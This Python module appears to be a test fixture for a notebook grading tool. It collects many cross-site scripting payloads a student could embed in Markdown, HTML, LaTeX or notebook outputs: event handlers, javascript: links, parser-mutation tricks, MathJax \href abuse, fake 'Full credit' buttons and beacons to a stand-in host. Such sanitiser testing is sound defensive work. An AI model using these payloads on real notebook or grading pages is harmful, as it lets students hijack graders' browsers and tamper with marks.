"""What a student may write or show to get a script into the page of whoever reads it, or to learn when it is read.

`TEXTS` are tried wherever a text can stand: as Markdown, HTML, LaTeX, in prints, errors, code and messages. `OUTPUTS`
are outputs of other forms than a kernel would send by itself. Each would, where it works, change the page's title to
"mine", ask the server for /mark, or ask another one for it.
"""

# ruff: noqa: E501 (a broken string would be harder to read)

import base64

RUN = "document.title=`mine`;fetch(`/mark`)"
FAR = "http://far.example/mark"
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script><image href="{FAR}"/></svg>'
ENTITIES = "".join(f"&#{ord(letter)};" for letter in "javascript:")
PAGE = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()
REPEATS = "/formgrader/manage_students/%3Cimg%20src=x%20onerror=document.title=%60mine%60%3E"

TEXTS = {
    # HTML that runs
    "script": f"<script>{RUN}</script>",
    "script-in-odd-case": f"<ScRiPt >{RUN}</sCrIpT >",
    "script-with-a-slash": f"<script/x>{RUN}</script/x>",
    "script-in-a-script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "unterminated-script": f"<script>{RUN}//",
    "unterminated-tag": f'<img src=x onerror="{RUN}" ',
    "handler": f'<img src=x onerror="{RUN}">',
    "handler-in-odd-case": f'<iMg sRc=x OnErRoR="{RUN}">',
    "handler-behind-a-slash": f"<img/src=x/onerror={RUN}>",
    "handler-with-a-tab": f'<img src=x\tonerror\t=\n"{RUN}">',
    "handler-with-a-form-feed": f"<img\x0csrc=x\x0conerror={RUN}>",
    "handler-with-a-null": f'<im\x00g src=x on\x00error="{RUN}">',
    "handler-with-entities": f'<img src=x onerror="{"".join(f"&#{ord(one)};" for one in RUN)}">',
    "handler-on-focus": f'<input autofocus onfocus="{RUN}">',
    "handler-on-details": f'<details open ontoggle="{RUN}"><summary>a</summary></details>',
    "handler-of-an-animation": f'<style>@keyframes a{{}}</style><b style="animation-name:a" onanimationstart="{RUN}">b</b>',
    "body": f'<body onload="{RUN}" onpageshow="{RUN}">',
    "video": f'<video onerror="{RUN}"><source src=x onerror="{RUN}"></video>',
    "marquee": f'<marquee onstart="{RUN}">a</marquee>',
    "svg": SVG,
    "svg-animates-a-link": f'<svg><a><animate attributeName=href values="javascript:{RUN}"/><text y=20>a</text></a></svg>',
    "svg-use": "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x\"/></svg>",
    "svg-foreign": f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></iframe></foreignObject></svg>",
    "math": f'<math><maction actiontype="statusline" xlink:href="javascript:{RUN}">a</maction></math>',
    "math-in-a-style": f'<math><style><img src=x onerror="{RUN}"></style></math>',
    # What becomes other HTML when it is read a second time
    "mutates-in-noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "mutates-in-math": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUN}&gt;">',
    "mutates-in-a-form": f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    "mutates-in-svg": f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    "mutates-in-a-comment": f"<!--><img src=x onerror={RUN}>-->",
    "mutates-in-a-bang-comment": f"<!-- --!><img src=x onerror={RUN}> -->",
    "mutates-in-a-title": f"<title><a title='</title><img src=x onerror={RUN}>'></title>",
    "mutates-in-a-textarea": f"</textarea><textarea><b title='</textarea><img src=x onerror={RUN}>'>",
    "mutates-in-xmp": f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
    "mutates-in-cdata": f"<svg><![CDATA[><image xlink:href='x' onerror={RUN}></svg>",
    "template": f"<template><img src=x onerror={RUN}></template>",
    "processing": f"<?xml version='1.0'?><img src=x onerror={RUN}><?php ?>",
    "backticks": f"<img src=`x`onerror={RUN}>",
    "no-space": f'<b class="x"onclick="{RUN}"style="position:fixed;inset:0">a</b>',
    # Documents in the document
    "iframe": f"<iframe src='javascript:parent.{RUN}'></iframe>",
    "iframe-srcdoc": f"<iframe srcdoc='&lt;script&gt;parent.{RUN}&lt;/script&gt;'></iframe>",
    "object": f"<object data='data:text/html;base64,{PAGE}'></object>",
    "embed": f"<embed src='data:text/html;base64,{PAGE}'>",
    "frameset": f"<frameset><frame src='javascript:{RUN}'></frameset>",
    "form": f"<form action='javascript:{RUN}'><button formaction='javascript:{RUN}'>Full credit</button></form>",
    "button-of-the-page": '<button class="full-credit mark-graded">a</button><div class="full-credit mark-graded">a</div>',
    "field-of-the-page": '<input class="score" id="check" value="2"><p id="words">a</p>\n\n# words\n\n## statusmessage',
    "portal": f"<portal src='{FAR}'></portal><fencedframe src='{FAR}'></fencedframe>",
    # Loads and moves
    "refresh": f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'><meta http-equiv=refresh content='0;{FAR}'>",
    "base": "<base href='http://far.example/'>",
    "link": f"<link rel=stylesheet href='{FAR}'><link rel=prefetch href='{FAR}'><link rel='dns-prefetch' href='//far.example'>",
    "remote-picture": f"<img src='{FAR}'>\n\n![a]({FAR}) ![b][c]\n\n[c]: {FAR}",
    "remote-set": f"<img srcset='{FAR} 1x'><picture><source srcset='{FAR}'><img></picture>",
    "remote-in-css": f"<style>@import '{FAR}'; b {{ background: url({FAR}) }}</style><b style=\"background:url('{FAR}')\">a</b>",
    "remote-in-a-table": f"<table background='{FAR}'><td background='{FAR}' style='text-align:left;background:url({FAR})'>a</td></table>",
    "remote-media": f"<audio src='{FAR}' autoplay></audio><video poster='{FAR}'></video><track src='{FAR}'>",
    "remote-without-a-scheme": "<img src='//far.example/mark'>![a](//far.example/mark)![b](\\\\far.example/mark)",
    "own-server": "<img src='/mark'>![a](/mark)![a](../../mark)![a](files//mark)<img src='files/mark'>",
    "attachment": "![a](attachment:a.png)",
    # Links
    "link-that-runs": f"[a](javascript:{RUN})",
    "link-in-odd-case": f"[a](JaVaScRiPt:{RUN})",
    "link-with-entities": f"[a]({ENTITIES}{RUN}) [b](javascript&colon;{RUN}) [c](javascript&#58;{RUN})",
    "link-with-a-tab": f"[a](<java\tscript:{RUN}>) <a href='java\tscri\npt:{RUN}'>b</a> <a href=' \x01javascript:{RUN}'>c</a>",
    "link-with-percents": f"[a](javascript%3A{RUN}) [b](%6Aavascript:{RUN})",
    "link-by-reference": f"[a][b] [b] [b][]\n\n[b]: javascript:{RUN} 'title'",
    "link-by-an-angle": f"<javascript:{RUN}> [a](<javascript:{RUN}>)",
    "link-around-a-picture": f"[![a](data:image/png;base64,{PNG})](javascript:{RUN})",
    "link-in-a-heading": f"# [a](javascript:{RUN})\n\n> - [b](javascript:{RUN})\n\n| [c](javascript:{RUN}) |\n|---|\n| [d](javascript:{RUN}) |",
    "link-vbscript": "[a](vbscript:msgbox(1)) <a href='vbscript:msgbox(1)'>b</a>",
    "link-data": f"[a](data:text/html;base64,{PAGE}) <a href='data:text/html;base64,{PAGE}'>b</a>",
    "link-behind-files": f"[a](files/javascript:{RUN}) <a href='files/javascript:{RUN}'>b</a> <a href=/files/javascript:{RUN}>c</a>",
    "link-to-a-page-that-repeats": f"[a]({REPEATS}) [b](http://127.0.0.1:8888{REPEATS}) <http://127.0.0.1:8888{REPEATS}> http://127.0.0.1:8888{REPEATS}",
    "link-in-a-link": f"[a](http://a.example/[b](javascript:{RUN}))",
    "link-with-a-title": f'[a](http://a.example \'" onmouseover="{RUN}\') ![a](x \'" onerror="{RUN}\') ![" onerror="{RUN}](x)',
    "link-in-svg": f"<svg><a xlink:href='javascript:{RUN}'><text y=9>a</text></a></svg>",
    "map": f"<map name=a><area href='javascript:{RUN}' shape=default></map><img usemap=#a src=x>",
    "ping": f"<a href='http://a.example' ping='{FAR}' target=_blank>a</a>",
    # Pictures that are none
    "picture-svg-in-text": f'<img src="data:image/svg+xml,{SVG.replace(chr(34), chr(39))}"> ![a](data:image/svg+xml;utf8,{SVG})',
    "picture-that-is-a-page": f"![a](data:text/html;base64,{PAGE}) <img src='data:text/html;base64,{PAGE}'>",
    "picture-that-is-none": '<img src="data:image/png;base64,AAAA"> ![a](data:image/png;base64,iVBORw0KGgo=)',
    "picture-with-more-behind": f"<img src='data:image/png;base64,{PNG} onerror={RUN}'>",
    # Markdown around HTML
    "html-in-a-block": f"<div>\n<img src=x onerror={RUN}>\n\n**a** <img src=x onerror={RUN}>\n</div>",
    "html-in-code": f"`<img src=x onerror={RUN}>` ``` ` <b>``` \n\n    <img src=x onerror={RUN}>\n\n```html\n<img src=x onerror={RUN}>\n```",
    "html-in-an-open-fence": f"```\n</pre></code><img src=x onerror={RUN}>",
    "language-of-code": f'```"><img/src=x/onerror={RUN}>\na\n```\n\n```mermaid\n<img src=x onerror={RUN}>\n```',
    "html-behind-pre": f"<pre>\n\n\n</pre>\n\n\n</div></div><img src=x onerror={RUN}>\r\r[a](javascript:{RUN})",
    "ends-the-page": f"</div></div></div></body></html><img src=x onerror={RUN}>",
    "nested": "> " * 500 + f"<img src=x onerror={RUN}>",
    "many-tags": "<b><i><u>" * 300 + f"<img src=x onerror={RUN}>",
    # Formulas
    "tex-href": rf"$\href{{javascript:{RUN}}}{{a}}$ $$\href{{javascript:{RUN}}}{{a}}$$ \\(\href{{javascript:{RUN}}}{{a}}\\)",
    "tex-by-an-entity": f"$&#92;href{{javascript:{RUN}}}{{a}}$ $&#x5c;require{{html}}$ $&bsol;style{{a}}{{b}}$",
    "tex-by-two-entities": f"$&#92;&#104;ref{{javascript:{RUN}}}{{a}}$ $&bsol;&#x68;ref{{javascript:{RUN}}}{{a}}$",
    "tex-in-an-environment": rf"\begin{{equation}}\href{{javascript:{RUN}}}{{a}}\end{{equation}}",
    "tex-with-entities": rf"$\&#104;ref{{javascript:{RUN}}}{{a}}$ $\h&#114;ef{{javascript:{RUN}}}{{a}}$ <b>$\in&#112;ut$</b>",
    "tex-with-a-comment": rf"$\hr<!-- -->ef{{javascript:{RUN}}}{{a}}$ <b>\hr</b>ef",
    "tex-style": rf"$\style{{background:url({FAR})}}{{a}} \bbox[background:url({FAR})]{{a}} \class{{full-credit}}{{a}} \cssId{{words}}{{a}}$",
    "tex-token": rf"$\mmlToken{{mi}}[href=javascript:{RUN}]{{a}} \require{{html}} \unicode{{x3c}}$",
    "tex-defines": rf"$\def\a#1{{\hr#1}}\newcommand{{\b}}{{\href}}\let\c=\href \a{{ef}}{{javascript:{RUN}}}{{a}} \c{{javascript:{RUN}}}{{a}}$",
    "tex-html": rf"$a<img src=x onerror={RUN}>b$ $$<script>{RUN}</script>$$",
    # Letters
    "escapes": f"\x1b]0;mine\x07\x1b[31m<img src=x onerror={RUN}>\x1b[0m\x1b[38;2;999;1m\x1b[{'9' * 3000}m\x9b31m\x1b[38;5m",
    "nulls": f"\x00<\x00script\x00>{RUN}<\x00/script>",
    "halves": f"\ud83d<img src=x onerror={RUN}>\ude00",
    "template-language": f"{{{{ ''.__class__ }}}}{{% raw %}}<img src=x onerror={RUN}>",
}


def shown(data, metadata=None, kind="display_data", **more):
    return {"output_type": kind, "data": data, "metadata": metadata or {}} | more


_OPENS = f'"><img src=x onerror="{RUN}">'

OUTPUTS = {
    "width": shown({"image/png": PNG}, {"image/png": {"width": _OPENS, "height": _OPENS}}),
    "width-of-a-jpeg": shown({"image/jpeg": PNG}, {"image/jpeg": {"width": _OPENS, "alt": _OPENS}}),
    "alt": shown({"image/png": PNG}, {"image/png": {"alt": _OPENS, "unconfined": _OPENS, "needs_background": _OPENS}}),
    "size-as-a-list": shown({"image/png": PNG}, {"image/png": {"width": [_OPENS], "height": {"a": _OPENS}}}),
    "size-as-a-number": shown({"image/png": PNG}, {"image/png": {"width": 1e308, "height": True}}),
    "sizes-for-all": shown({"image/png": PNG}, {"width": _OPENS, "height": _OPENS}),
    "metadata-as-a-list": shown({"image/png": PNG}, [_OPENS]),
    "metadata-of-a-kind-as-text": shown({"image/png": PNG}, {"image/png": _OPENS}),
    "isolated": shown({"text/html": f"<script>{RUN}</script>"}, {"text/html": {"isolated": True}}),
    "isolated-for-all": shown({"text/html": f"<script>{RUN}</script>"}, {"isolated": True}),
    "file-names": shown({"image/png": PNG}, {"filenames": {"image/png": "//far.example/mark"}}),
    "svg-file-name": shown({"image/svg+xml": SVG}, svg_filename="//far.example/mark"),
    "transient": shown({"text/plain": "a"}, transient={"display_id": _OPENS}),
    "javascript": shown({"application/javascript": RUN}),
    "javascript-by-another-name": shown({"text/javascript": RUN, "application/ecmascript": RUN}),
    "json": shown({"application/json": {"a": _OPENS}}),
    "widget": shown({"application/vnd.jupyter.widget-view+json": {"model_id": "</script>" + _OPENS}}),
    "mermaid": shown({"text/vnd.mermaid": f"<img src=x onerror={RUN}>"}),
    "vega": shown({"application/vnd.vegalite.v5+json": {"usermeta": _OPENS}}),
    "plotly": shown({"application/vnd.plotly.v1+json": {"data": [_OPENS]}, "text/html": f"<script>{RUN}</script>"}),
    "bokeh": shown({"application/vnd.bokehjs_exec.v0+json": "", "application/javascript": RUN}),
    "pdf": shown({"application/pdf": PNG}),
    "unknown-kind-of-data": shown({_OPENS: _OPENS}),
    "png-that-is-html": shown({"image/png": _OPENS}),
    "png-with-html-behind": shown({"image/png": PNG + _OPENS}),
    "png-that-is-only-a-head": shown({"image/png": "iVBORw0KGgo="}),
    "png-as-a-list": shown({"image/png": [_OPENS]}),
    "jpeg-that-is-html": shown({"image/jpeg": _OPENS}),
    "svg": shown({"image/svg+xml": SVG}),
    "svg-that-is-html": shown({"image/svg+xml": f"<img src=x onerror={RUN}>"}),
    "svg-as-a-list": shown({"image/svg+xml": [SVG[:20], SVG[20:]]}),
    "svg-of-laughs": shown(
        {
            "image/svg+xml": '<!DOCTYPE svg [<!ENTITY a "aaa"><!ENTITY b "&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg">&b;</svg>'
        }
    ),
    "html-as-a-list": shown({"text/html": ["<scr", f"ipt>{RUN}</script>"]}),
    "html-as-a-dict": shown({"text/html": {"a": _OPENS}}),
    "html-as-a-number": shown({"text/html": 1}),
    "markdown-as-a-list": shown({"text/markdown": ["[a](java", f"script:{RUN})"]}),
    "latex-as-a-list": shown({"text/latex": [r"$\hr", rf"ef{{javascript:{RUN}}}{{a}}$"]}),
    "plain-as-a-list-of-lists": shown({"text/plain": [[_OPENS]]}),
    "data-as-a-list": shown([_OPENS]),
    "data-as-text": shown(_OPENS),
    "count": shown({"text/plain": "1"}, kind="execute_result", execution_count=_OPENS),
    "kind": {"output_type": _OPENS, "data": {}, "metadata": {}},
    "no-kind": {"data": {"text/html": _OPENS}},
    "update": shown({"text/html": _OPENS}, kind="update_display_data"),
    "pyout": shown({"text/html": _OPENS}, kind="pyout"),
    "stream-by-another-name": {"output_type": "stream", "name": _OPENS, "text": _OPENS},
    "stream-as-a-list": {"output_type": "stream", "name": "stdout", "text": [_OPENS, 1]},
    "stream-without-text": {"output_type": "stream", "name": "stdin"},
    "error-as-lists": {"output_type": "error", "ename": [_OPENS], "evalue": {"a": 1}, "traceback": [[_OPENS], 1]},
    "error-with-text": {"output_type": "error", "ename": _OPENS, "evalue": _OPENS, "traceback": _OPENS},
    "error-with-nothing": {"output_type": "error"},
}
